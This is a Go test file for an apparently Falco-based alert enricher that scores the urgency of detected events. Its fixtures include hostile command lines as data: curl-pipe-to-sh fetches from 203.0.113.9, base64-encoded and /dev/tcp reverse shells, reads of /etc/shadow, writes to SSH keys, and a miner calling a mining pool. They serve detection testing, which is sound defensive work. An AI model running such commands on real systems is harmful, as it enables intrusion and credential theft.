package enrich_test

import (
	"encoding/json"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	pb "github.com/falco-reporter/falco-reporter/gen/go/falcoreporter/v1"
	"github.com/falco-reporter/falco-reporter/internal/alert"
	"github.com/falco-reporter/falco-reporter/internal/enrich"
	"github.com/falco-reporter/falco-reporter/internal/enrich/rules"
)

const (
	record = pb.UrgencyLevel_URGENCY_LEVEL_RECORD
	today  = pb.UrgencyLevel_URGENCY_LEVEL_TODAY
	page   = pb.UrgencyLevel_URGENCY_LEVEL_PAGE
)

// TestUrgency: computed from what happened, never from the priority alone.
func TestUrgency(t *testing.T) {
	for name, tc := range map[string]struct {
		priority string
		fields   map[string]any
		want     pb.UrgencyLevel
		why      string
	}{
		"critical and done":              {"Critical", map[string]any{"evt.type": "execve", "evt.res": "SUCCESS", "proc.name": "x", "user.uid": 0, "container.id": "host"}, page, "Succeeded as root on the host under priority Critical."},
		"critical, done, privileged":     {"Critical", map[string]any{"evt.type": "setns", "evt.res": "SUCCESS", "proc.name": "x", "user.uid": 0, "container.id": "abc", "container.privileged": true}, page, "as root in a privileged container under"},
		"critical, done, in a container": {"Critical", map[string]any{"evt.type": "setns", "evt.res": "SUCCESS", "proc.name": "x", "user.uid": 0, "container.id": "abc"}, today, "Succeeded as root in a container; nothing backs priority Critical."},
		"critical, done, not root":       {"Critical", map[string]any{"evt.type": "setns", "evt.res": "SUCCESS", "proc.name": "x", "user.uid": 5, "container.id": "host"}, today, "Succeeded not as root on the host; nothing backs priority Critical."},
		"critical with a finding":        {"Critical", map[string]any{"evt.type": "fchmodat", "evt.arg.mode": "S_ISUID", "proc.name": "chmod"}, page, "A setuid file was asked for, under a rule of priority Critical."},
		"critical, no call":              {"Critical", map[string]any{}, today, "Critical"},
		"warning, nothing known":         {"Warning", map[string]any{"evt.type": "setns", "proc.name": "x"}, today, "Result unknown; priority Warning."},
		"warning, weak in all":           {"Warning", map[string]any{"evt.type": "setns", "proc.name": "x", "user.uid": 5, "container.id": "abc"}, record, "Result unknown, not as root in a container: too little for Warning."},
		"runtime at work":                {"Critical", map[string]any{"container.id": "abc", "container.privileged": true, "container.mounts": "/:/host::true:rslave", "evt.type": "fchmodat", "evt.res": "SUCCESS", "proc.name": "runc:[1:CHILD]", "proc.exepath": "/usr/sbin/runc", "user.uid": 0}, record, "container runtime"},
		"runtime at shadow":              {"Warning", map[string]any{"container.id": "abc", "evt.type": "openat", "evt.res": "SUCCESS", "fd.name": "/etc/shadow", "evt.arg.flags": "O_WRONLY", "proc.name": "runc", "proc.exepath": "/usr/sbin/runc"}, page, "Write access"},
		"a runtime put there":            {"Error", map[string]any{"container.id": "abc", "evt.type": "fchmodat", "evt.res": "SUCCESS", "proc.name": "runc", "proc.exepath": "/usr/sbin/runc", "proc.is_exe_upper_layer": true, "user.uid": 0}, today, "Error"},
		"unpacking":                      {"Warning", map[string]any{"container.id": "host", "evt.type": "openat", "evt.res": "SUCCESS", "proc.name": "<NA>", "fd.name": "/opt/docker/vfs/dir/4/root/.ssh/authorized_keys"}, record, "unpacks an image"},
		"critical and refused":           {"Critical", map[string]any{"evt.type": "execve", "evt.res": "EPERM", "proc.name": "x"}, today, "The call was refused."},
		"critical, result unknown":       {"Critical", map[string]any{"evt.type": "execve", "proc.name": "x"}, today, "Result unknown"},
		"warning and failed":             {"Warning", map[string]any{"evt.type": "openat", "evt.res": "ENOENT", "proc.name": "x", "fd.name": "/etc/shadow"}, record, "The call failed."},
		"reverse shell at notice":        {"Notice", map[string]any{"evt.type": "dup2", "proc.name": "bash", "fd.name": "10.0.0.1:5->203.0.113.9:4444", "fd.sip": "203.0.113.9"}, page, "A shell asking to be joined to a network connection."},
		"reverse shell, done":            {"Notice", map[string]any{"evt.type": "dup2", "evt.res": "SUCCESS", "proc.name": "bash", "fd.name": "10.0.0.1:5->8.8.8.8:4444"}, page, "A shell joined to a network connection."},
		"reverse shell, refused":         {"Notice", map[string]any{"evt.type": "dup2", "evt.res": "EBADF", "proc.name": "bash", "fd.name": "10.0.0.1:5->203.0.113.9:4444"}, record, "The call failed."},
		"shell to the host itself":       {"Notice", map[string]any{"evt.type": "dup2", "proc.name": "bash", "fd.name": "127.0.0.1:5->127.0.0.1:4444", "fd.sip": "127.0.0.1"}, today, "does not leave the machine"},
		"a server's own dup":             {"Notice", map[string]any{"evt.type": "dup2", "proc.name": "inetd", "fd.name": "10.0.0.1:5->203.0.113.9:4444"}, record, "Notice"},
		"shell under a web server":       {"Notice", map[string]any{"evt.type": "execve", "proc.name": "sh", "proc.pname": "php-fpm"}, today, "A shell under a web server."},
		"ls under a database":            {"Notice", map[string]any{"evt.type": "execve", "proc.name": "ls", "proc.pname": "mysqld"}, today, "database server"},
		"memory file at notice":          {"Notice", map[string]any{"evt.type": "execve", "evt.res": "SUCCESS", "proc.name": "3", "proc.exepath": "memfd:x"}, page, "only in memory"},
		"keys written":                   {"Notice", map[string]any{"evt.type": "openat", "evt.arg.flags": "O_WRONLY|O_CREAT", "proc.name": "x", "fd.name": "/root/.ssh/authorized_keys"}, page, "An attempt at write access to keys"},
		"keys opened":                    {"Notice", map[string]any{"evt.type": "openat", "proc.name": "x", "fd.name": "/root/.ssh/authorized_keys"}, today, "Access to keys"},
		"shadow read":                    {"Notice", map[string]any{"evt.type": "openat", "evt.arg.flags": "O_RDONLY", "proc.name": "x", "fd.name": "/etc/shadow"}, today, "Access to the password hashes"},
		"miner":                          {"Notice", map[string]any{"evt.type": "execve", "proc.name": "xmrig", "proc.exepath": "/tmp/xmrig", "proc.cmdline": "xmrig -o stratum+tcp://pool:3333"}, page, "mining pool"},
		"miner mentioned":                {"Notice", map[string]any{"evt.type": "execve", "proc.name": "echo", "proc.exepath": "/usr/bin/echo", "proc.cmdline": "echo -o stratum+tcp"}, record, "Notice"},
		"hidden command":                 {"Notice", map[string]any{"evt.type": "execve", "proc.name": "bash", "proc.cmdline": "bash -c echo Y3VybCBodHRwOi8vZXZpbC9hIHwgc2g= | base64 -d | sh"}, page, "A command hidden in base64 asks to fetch code and run it."},
		"metadata service":               {"Notice", map[string]any{"evt.type": "connect", "proc.name": "curl", "fd.name": "10.0.0.1:5->169.254.169.254:80", "fd.sip": "169.254.169.254"}, today, "metadata"},
		"drill never lowers":             {"Critical", map[string]any{"evt.type": "execve", "evt.res": "SUCCESS", "proc.name": "x", "proc.pname": "event-generator", "user.uid": 0, "container.id": "host"}, page, "Critical"},
		"unknown priority":               {"Urgent", map[string]any{}, today, "no priority"},
		"miner mentioned, critical":      {"Critical", map[string]any{"evt.type": "execve", "proc.name": "echo", "proc.exepath": "/usr/bin/echo", "proc.cmdline": "echo -o stratum+tcp"}, today, "Only text"},
		"miner called sed":               {"Notice", map[string]any{"evt.type": "execve", "evt.res": "SUCCESS", "proc.name": "sed", "proc.exepath": "/tmp/sed", "proc.cmdline": "sed -o stratum+tcp://evil:3333"}, page, "mining pool"},
		"keys written, done":             {"Notice", map[string]any{"evt.type": "openat", "evt.res": "SUCCESS", "evt.arg.flags": "O_WRONLY", "proc.name": "x", "fd.name": "/root/.ssh/authorized_keys"}, page, "Write access to keys"},
		"shadow linked":                  {"Notice", map[string]any{"evt.type": "linkat", "evt.res": "SUCCESS", "evt.arg.oldpath": "/etc/shadow", "evt.arg.newpath": "/tmp/x", "proc.name": "ln"}, today, "A second name for"},
		"shadow replaced":                {"Notice", map[string]any{"evt.type": "rename", "evt.res": "SUCCESS", "evt.arg.oldpath": "/tmp/x", "evt.arg.newpath": "/etc/shadow", "proc.name": "mv"}, page, "Write access to the password hashes"},
		"shadow by detours":              {"Notice", map[string]any{"evt.type": "openat", "evt.arg.name": "/var/log/../../etc/shadow", "proc.name": "cat"}, today, "password hashes"},
		"symlink to shadow":              {"Notice", map[string]any{"evt.type": "symlinkat", "evt.arg.target": "/etc/shadow", "evt.arg.linkpath": "/tmp/x", "proc.name": "ln"}, today, "A link to"},
		"cron.deny":                      {"Notice", map[string]any{"evt.type": "openat", "fd.name": "/etc/cron.deny", "proc.name": "x"}, record, "Notice"},
		"bind shell":                     {"Notice", map[string]any{"evt.type": "dup2", "proc.name": "sh", "fd.name": "8.8.8.8:5->127.0.0.1:4444", "fd.sip": "127.0.0.1"}, page, "network connection"},
		"setuid":                         {"Notice", map[string]any{"evt.type": "fchmodat", "evt.arg.mode": "S_IWUSR|S_ISUID", "proc.name": "chmod"}, today, "setuid"},
		"host mounted":                   {"Informational", map[string]any{"container.id": "abc", "container.mounts": "[/x:/y::true:rprivate,/proc:/host:ro:false:rprivate]"}, today, "its processes"},
		"memory file, refused":           {"Notice", map[string]any{"evt.type": "openat", "evt.res": "EACCES", "proc.name": "3", "proc.exepath": "memfd:x", "fd.name": "/etc/shadow"}, page, "A program that exists only in memory. The call was refused."},
		"shell on a socket, refused":     {"Critical", map[string]any{"evt.type": "openat", "evt.res": "EACCES", "proc.name": "bash", "proc.stdin.type": "ipv4", "fd.name": "/etc/shadow"}, page, "A shell that reads from the network. The call was refused."},
		"shell under java":               {"Notice", map[string]any{"evt.type": "execve", "proc.name": "sh", "proc.cmdline": "sh -c make", "proc.pname": "java"}, today, "A shell under a program that is often a server."},
		"compiler under node":            {"Notice", map[string]any{"evt.type": "execve", "proc.name": "gcc", "proc.cmdline": "gcc x.c", "proc.pname": "node"}, record, "Notice"},
		"shell under a mail server":      {"Notice", map[string]any{"evt.type": "execve", "proc.name": "sh", "proc.pname": "exim4"}, today, "A shell under a mail server."},
		"shell under a new php":          {"Notice", map[string]any{"evt.type": "execve", "proc.name": "sh", "proc.pname": "php-fpm8.4"}, today, "A shell under a web server."},
		"sendmail by php, critical":      {"Critical", map[string]any{"evt.type": "execve", "evt.res": "SUCCESS", "user.uid": 0, "container.id": "host", "proc.name": "sh", "proc.cmdline": "sh -c /usr/sbin/sendmail -t -i", "proc.pname": "php-fpm"}, today, "A shell under a web server, and nothing that speaks for more."},
		"id by php, critical":            {"Critical", map[string]any{"evt.type": "execve", "proc.name": "sh", "proc.cmdline": "sh -c id", "proc.pname": "php-fpm"}, page, "A shell that looks around, under a web server, under a rule of priority Critical."},
		"interactive under php":          {"Notice", map[string]any{"evt.type": "execve", "proc.name": "bash", "proc.cmdline": "bash -i", "proc.pname": "php-fpm"}, page, "An interactive shell under a web server."},
		"shadow by a shell under php":    {"Notice", map[string]any{"evt.type": "execve", "proc.name": "sh", "proc.cmdline": "sh -c cat /etc/shadow", "proc.pname": "php-fpm"}, page, "A web server's shell, naming “/etc/shadow”."},
		"fetched under java":             {"Notice", map[string]any{"evt.type": "execve", "proc.name": "sh", "proc.cmdline": "sh -c curl -s http://203.0.113.9/x|sh", "proc.pname": "java"}, page, "Under a program that is often a server, a command line asks to fetch code and run it."},
		"fetched by somebody":            {"Notice", map[string]any{"evt.type": "execve", "proc.name": "sh", "proc.cmdline": "sh -c curl -s http://203.0.113.9/x|sh"}, today, "A command line asks to fetch code and run it."},
		"fetched, refused":               {"Notice", map[string]any{"evt.type": "execve", "evt.res": "EACCES", "proc.name": "sh", "proc.cmdline": "sh -c curl -s http://203.0.113.9/x|sh", "proc.pname": "java"}, record, "The call was refused."},
		"reverse shell mentioned":        {"Notice", map[string]any{"evt.type": "execve", "proc.name": "grep", "proc.cmdline": "grep -r bash -i >& /dev/tcp/8.8.4.4/1 0>&1 /srv"}, record, "Notice"},
		"decoded reverse shell":          {"Notice", map[string]any{"evt.type": "execve", "proc.name": "bash", "proc.cmdline": "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuOS80NDQ0IDA+JjE=}|{base64,-d}|{bash,-i}"}, page, "A command hidden in base64 asks to join a shell to a connection."},
		"module from a container":        {"Notice", map[string]any{"evt.type": "init_module", "evt.res": "SUCCESS", "proc.name": "x", "user.uid": 0, "container.id": "abc"}, page, "A kernel module was loaded from within a container."},
		"module by its name":             {"Notice", map[string]any{"evt.type": "finit_module", "evt.res": "SUCCESS", "proc.name": "modprobe", "proc.exepath": "/sbin/modprobe", "proc.cmdline": "modprobe ip_tables", "container.id": "abc"}, today, "seemingly an installed one"},
		"module by a false modprobe":     {"Notice", map[string]any{"evt.type": "finit_module", "evt.res": "SUCCESS", "proc.name": "modprobe", "proc.exepath": "/tmp/modprobe", "proc.cmdline": "modprobe ip_tables", "container.id": "abc"}, page, "module was loaded"},
		"module from /tmp":               {"Notice", map[string]any{"evt.type": "finit_module", "evt.res": "SUCCESS", "proc.name": "insmod", "proc.cmdline": "insmod /tmp/evil.ko", "container.id": "host"}, page, "module was loaded"},
		"module, refused":                {"Notice", map[string]any{"evt.type": "init_module", "evt.res": "EPERM", "proc.name": "x", "container.id": "abc"}, record, "refused"},
		"sshd replaced":                  {"Notice", map[string]any{"evt.type": "openat", "evt.res": "SUCCESS", "evt.arg.flags": "O_WRONLY|O_TRUNC", "proc.name": "cp", "fd.name": "/usr/bin/sshd", "container.id": "host"}, page, "Write access to the system's programs on the host."},
		"sshd renamed into place":        {"Notice", map[string]any{"evt.type": "rename", "evt.res": "SUCCESS", "evt.arg.oldpath": "/tmp/x", "evt.arg.newpath": "/usr/sbin/sshd", "proc.name": "mv", "container.id": "host"}, page, "system's programs"},
		"true renamed":                   {"Notice", map[string]any{"evt.type": "rename", "evt.res": "SUCCESS", "evt.arg.oldpath": "/bin/true", "evt.arg.newpath": "/bin/true.old", "proc.name": "mv", "container.id": "host"}, today, "another name"},
		"program of a container":         {"Notice", map[string]any{"evt.type": "openat", "evt.res": "SUCCESS", "evt.arg.flags": "O_WRONLY", "proc.name": "cp", "fd.name": "/usr/bin/x", "container.id": "abc"}, today, "Write access to the system's programs."},
		"program installed":              {"Notice", map[string]any{"evt.type": "openat", "evt.res": "SUCCESS", "evt.arg.flags": "O_WRONLY", "proc.name": "dpkg", "proc.exepath": "/usr/bin/dpkg", "fd.name": "/usr/bin/x.dpkg-new", "container.id": "host"}, today, "Write access to the system's programs."},
		"installed by a false dpkg":      {"Notice", map[string]any{"evt.type": "openat", "evt.res": "SUCCESS", "evt.arg.flags": "O_WRONLY", "proc.name": "dpkg", "proc.exepath": "/tmp/dpkg", "fd.name": "/usr/bin/x", "container.id": "host"}, page, "system's programs"},
		"sshd_config written":            {"Notice", map[string]any{"evt.type": "openat", "evt.res": "SUCCESS", "evt.arg.flags": "O_WRONLY", "proc.name": "vi", "fd.name": "/etc/ssh/sshd_config", "container.id": "host"}, page, "Write access to how logins over SSH are checked."},
		"sshd_config read":               {"Notice", map[string]any{"evt.type": "openat", "evt.res": "SUCCESS", "evt.arg.flags": "O_RDONLY", "proc.name": "vi", "fd.name": "/etc/ssh/sshd_config", "container.id": "host"}, record, "touching how logins over SSH are checked"},
		"bashrc of root":                 {"Notice", map[string]any{"evt.type": "openat", "evt.res": "SUCCESS", "evt.arg.flags": "O_WRONLY", "proc.name": "x", "fd.name": "/root/.bashrc"}, page, "when a shell starts"},
		"bashrc below /tmp":              {"Notice", map[string]any{"evt.type": "openat", "evt.res": "SUCCESS", "evt.arg.flags": "O_WRONLY", "proc.name": "tar", "fd.name": "/tmp/build/skel/.bashrc"}, record, "Notice"},
		"disk read in a pod":             {"Critical", map[string]any{"evt.type": "openat", "evt.arg.flags": "O_RDONLY", "proc.name": "dd", "user.uid": 0, "fd.name": "/dev/sda", "container.id": "abc"}, page, "Access to a disk, perhaps the node's, from within a container, under a rule of priority Critical."},
		"disk written in a pod":          {"Notice", map[string]any{"evt.type": "openat", "evt.arg.flags": "O_RDWR", "proc.name": "dd", "fd.name": "/dev/nvme0n1", "container.id": "abc"}, page, "Write access to a disk"},
		"debugfs in a pod":               {"Notice", map[string]any{"evt.type": "execve", "proc.name": "debugfs", "proc.cmdline": "debugfs -w /dev/sda1", "container.id": "abc"}, page, "perhaps the node's"},
		"mount in a pod":                 {"Notice", map[string]any{"evt.type": "execve", "proc.name": "mount", "proc.cmdline": "mount /dev/sda1 /mnt", "container.id": "abc"}, today, "perhaps the node's"},
		"stderr":                         {"Notice", map[string]any{"evt.type": "openat", "evt.arg.flags": "O_RDWR", "proc.name": "x", "fd.name": "/dev/stderr", "container.id": "abc"}, record, "Notice"},
		"logs":                           {"Warning", map[string]any{"evt.type": "openat", "evt.res": "SUCCESS", "proc.name": "x", "user.uid": 0, "fd.name": "/var/log/syslog", "container.id": "host"}, today, "Succeeded as root on the host, touching the logs; priority Warning."},
		"debug":                          {"Debug", map[string]any{}, record, "Debug"},
	} {
		t.Run(name, func(t *testing.T) {
			a := decode(t, strings.Replace(alertJSON(t, "syscall", tc.fields), `"priority":"Notice"`, `"priority":"`+tc.priority+`"`, 1))
			u := enricher(t).Report(a).GetUrgency()
			if u.GetLevel() != tc.want || !strings.Contains(u.GetWhy(), tc.why) || u.GetLate() {
				t.Errorf("urgency %v; want %v with %q", u, tc.want, tc.why)
			}
		})
	}
}

func TestLateEventsDoNotPage(t *testing.T) {
	for _, tc := range []struct {
		after, age time.Duration
		want       pb.UrgencyLevel
		late       bool
	}{
		{0, 14 * time.Minute, page, false},
		{0, 16 * time.Minute, today, true},
		{time.Hour, 16 * time.Minute, page, false},
		{-1, 1000 * time.Hour, page, false},
		{0, -time.Hour, page, false}, // a clock ahead of ours
	} {
		e, err := enrich.New(enrich.Options{Urgency: enrich.Urgency{LateAfter: tc.after}})
		if err != nil {
			t.Fatal(err)
		}
		a := decode(t, seed)
		a.ReceivedNanos = a.Nanos + int64(tc.age)
		if u := e.Report(a).GetUrgency(); u.GetLevel() != tc.want || u.GetLate() != tc.late {
			t.Errorf("after %s, age %s: %v", tc.after, tc.age, u)
		}
	}
}

func TestUrgencyThresholds(t *testing.T) {
	e, err := enrich.New(enrich.Options{Urgency: enrich.Urgency{PageAt: alert.PriorityError, TodayAt: alert.PriorityNotice}})
	if err != nil {
		t.Fatal(err)
	}
	for priority, want := range map[string]pb.UrgencyLevel{"Error": page, "Warning": today, "Notice": today, "Informational": record} {
		fields := map[string]any{"evt.type": "setns", "evt.res": "SUCCESS", "proc.name": "x", "user.uid": 0, "container.id": "host"}
		a := decode(t, strings.Replace(alertJSON(t, "syscall", fields), `"priority":"Notice"`, `"priority":"`+priority+`"`, 1))
		if u := e.Report(a).GetUrgency(); u.GetLevel() != want {
			t.Errorf("%s: %v", priority, u)
		}
	}
}

// TestRequestUrgency: what the Kubernetes API answered decides.
func TestRequestUrgency(t *testing.T) {
	for name, tc := range map[string]struct {
		fields map[string]any
		want   pb.UrgencyLevel
	}{
		"anonymous, granted":  {map[string]any{"ka.user.name": "system:anonymous", "ka.verb": "list", "ka.response.code": 200}, page},
		"anonymous, refused":  {map[string]any{"ka.user.name": "system:anonymous", "ka.verb": "list", "ka.response.code": 403}, record},
		"all rights, given":   {map[string]any{"ka.user.name": "bob", "ka.verb": "create", "ka.target.resource": "clusterrolebindings", "ka.req.binding.role": "cluster-admin", "ka.response.code": 201}, page},
		"all rights, asked":   {map[string]any{"ka.user.name": "bob", "ka.verb": "create", "ka.req.binding.role": "cluster-admin"}, today},
		"all rights, refused": {map[string]any{"ka.user.name": "bob", "ka.verb": "create", "ka.req.binding.role": "cluster-admin", "ka.response.code": 403}, record},
		"few rights, given":   {map[string]any{"ka.user.name": "bob", "ka.verb": "create", "ka.req.binding.role": "view", "ka.response.code": 201}, record},
		"into a pod":          {map[string]any{"ka.user.name": "bob", "ka.verb": "create", "ka.target.resource": "pods", "ka.target.subresource": "exec", "ka.response.code": 200}, today},
	} {
		t.Run(name, func(t *testing.T) {
			if u := enricher(t).Report(decode(t, alertJSON(t, "k8s_audit", tc.fields))).GetUrgency(); u.GetLevel() != tc.want {
				t.Errorf("urgency %v; want %v", u, tc.want)
			}
		})
	}
}

// TestAdminBindingByTheRule: Falco's own rule does not print the role that it asks for.
func TestAdminBindingByTheRule(t *testing.T) {
	raw := alertJSON(t, "k8s_audit", map[string]any{"ka.user.name": "bob", "ka.req.binding.subjects": "[mallory]"})
	r := enricher(t).Report(decode(t, strings.Replace(raw, "Some rule", "Attach to cluster-admin Role", 1)))
	if u := r.GetUrgency(); u.GetLevel() != today || u.GetWhy() != "All rights over the cluster were asked for." {
		t.Errorf("urgency %v", u)
	}
}

// TestCloudUrgency: the result of a request to a cloud is what its event or the rule's condition says.
func TestCloudUrgency(t *testing.T) {
	file := filepath.Join(t.TempDir(), "rules.yaml")
	const text = `- rule: Some rule
  desc: d
  condition: ct.name="ConsoleLogin" and json.value[/responseElements/ConsoleLogin]="Success"
  output: o
  priority: CRITICAL
  source: aws_cloudtrail
`
	if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	set, err := rules.Load([]string{file}, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	informed, err := enrich.New(enrich.Options{Rules: func() *rules.Set { return set }})
	if err != nil {
		t.Fatal(err)
	}
	for name, tc := range map[string]struct {
		e      *enrich.Enricher
		source string
		fields map[string]any
		want   pb.UrgencyLevel
		why    string
	}{
		"nothing told":            {enricher(t), "aws_cloudtrail", map[string]any{"ct.user": "root"}, today, "Result not told, in the cloud account; nothing backs priority Critical."},
		"proven by the rule":      {informed, "aws_cloudtrail", map[string]any{"ct.user": "root"}, page, "Granted in the cloud account under priority Critical."},
		"failed, whatever it is":  {informed, "aws_cloudtrail", map[string]any{"ct.user": "root", "ct.error": "AccessDenied"}, today, "The request failed or was refused."},
		"no error":                {enricher(t), "aws_cloudtrail", map[string]any{"ct.name": "StopLogging", "ct.error": nil}, page, "Granted"},
		"no error of a login":     {enricher(t), "aws_cloudtrail", map[string]any{"ct.name": "ConsoleLogin", "ct.error": nil}, today, "not told"},
		"no error of we know not": {enricher(t), "aws_cloudtrail", map[string]any{"ct.error": nil}, today, "not told"},
		"okta, done":              {enricher(t), "okta", map[string]any{"okta.result": "SUCCESS"}, page, "at the identity provider"},
		"okta, denied":            {enricher(t), "okta", map[string]any{"okta.result": "DENY"}, today, "failed or was refused"},
	} {
		t.Run(name, func(t *testing.T) {
			a := decode(t, strings.Replace(alertJSON(t, tc.source, tc.fields), `"priority":"Notice"`, `"priority":"Critical"`, 1))
			if u := tc.e.Report(a).GetUrgency(); u.GetLevel() != tc.want || !strings.Contains(u.GetWhy(), tc.why) {
				t.Errorf("urgency %v; want %v with %q", u, tc.want, tc.why)
			}
		})
	}
}

// TestMoreFindings: combinations of fields.
func TestMoreFindings(t *testing.T) {
	e := enricher(t)
	for name, tc := range map[string]struct {
		fields map[string]any
		want   string // part of a finding; with a leading ! of none
	}{
		"base64":             {map[string]any{"proc.cmdline": "sh -c echo aWQgPiAvdG1wL293bmVk | base64 -d"}, "base64 of “id > /tmp/owned”"},
		"no base64":          {map[string]any{"proc.cmdline": "ls /usr/lib/x86_64-linux-gnu/libfoobarbazqux"}, "!base64"},
		"entrypoint":         {map[string]any{"container.id": "abc", "proc.name": "sh", "proc.vpid": 1, "proc.pname": "containerd-shim"}, "container's first process"},
		"entered":            {map[string]any{"container.id": "abc", "proc.name": "sh", "proc.vpid": 17, "proc.pname": "runc"}, "from outside"},
		"not entered":        {map[string]any{"container.id": "abc", "proc.name": "sh", "proc.vpid": 17, "proc.pname": "bash"}, "!from outside"},
		"disguise":           {map[string]any{"proc.name": "kworker/0:1", "proc.exepath": "/tmp/x"}, "a script, a link, or a disguise"},
		"cut name":           {map[string]any{"proc.name": "a-very-long-nam", "proc.exepath": "/bin/a-very-long-name"}, "!disguise"},
		"temporary folder":   {map[string]any{"proc.exepath": "/dev/shm/x"}, "lies below /dev/shm"},
		"downloader":         {map[string]any{"evt.type": "execve", "proc.name": "curl"}, "fetch or send"},
		"downloader refused": {map[string]any{"evt.type": "execve", "evt.res": "ENOENT", "proc.name": "curl"}, "!fetch or send"},
		"peer in the name":   {map[string]any{"fd.name": "10.0.0.1:5->[2606:4700::1]:443"}, "The server's end of the connection, 2606:4700::1, is a public address"},
		"made executable":    {map[string]any{"evt.type": "chmod", "evt.arg.mode": "S_IXUSR|S_IRUSR"}, "has an execute bit"},
		"chmod refused":      {map[string]any{"evt.type": "chmod", "evt.res": "EPERM", "evt.arg.mode": "S_ISUID"}, "!setuid"},
		"harmless mount":     {map[string]any{"container.id": "abc", "container.mounts": "/srv/data:/data::true:rprivate"}, "!the host's"},
		"writable root":      {map[string]any{"container.id": "abc", "container.mounts": "/:/host::true:rslave"}, "the host's “/”, the whole file system, for reading and writing"},
		"docker socket":      {map[string]any{"fd.name": "/var/run/docker.sock"}, "control over every container"},
		"ordinary file":      {map[string]any{"fd.name": "/srv/data"}, "!holds"},
	} {
		t.Run(name, func(t *testing.T) {
			a := withFields(t, tc.fields)
			r := e.Report(a)
			checkReport(t, a, r)
			got := strings.Join(statements(r), "\n")
			want, none := strings.CutPrefix(tc.want, "!")
			if strings.Contains(got, want) == none {
				t.Errorf("want %q in:\n%s", tc.want, got)
			}
		})
	}
}

// TestARuleThatClaimsSuccess is contradicted by the result.
func TestARuleThatClaimsSuccess(t *testing.T) {
	var m map[string]any
	if err := json.Unmarshal([]byte(alertJSON(t, "syscall", map[string]any{"evt.type": "execve", "evt.res": "EPERM", "proc.name": "x"})), &m); err != nil {
		t.Fatal(err)
	}
	m["rule"] = "Program executed successfully"
	raw, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(statements(enricher(t).Report(decode(t, string(raw)))), "\n"); !strings.Contains(got, "says otherwise") {
		t.Errorf("findings:\n%s", got)
	}
}

// TestPlaybookTextYieldsToFields: what a rule's playbook says of a match is not said of an
// alert that contradicts it.
func TestPlaybookTextYieldsToFields(t *testing.T) {
	e := enricher(t)
	const rule = "Clear Log Activities"
	for name, tc := range map[string]struct {
		fields map[string]any
		own    bool
	}{
		"done":    {map[string]any{"evt.type": "openat", "evt.res": "SUCCESS", "proc.name": "x", "container.id": "abc"}, true},
		"refused": {map[string]any{"evt.type": "openat", "evt.res": "EPERM", "proc.name": "x", "container.id": "abc"}, false},
	} {
		r := e.Report(decode(t, strings.Replace(alertJSON(t, "syscall", tc.fields), "Some rule", rule, 1)))
		if own := !strings.Contains(r.GetMeaning(), "A process made a system call"); own != tc.own {
			t.Errorf("%s: meaning %q", name, r.GetMeaning())
		}
	}
}
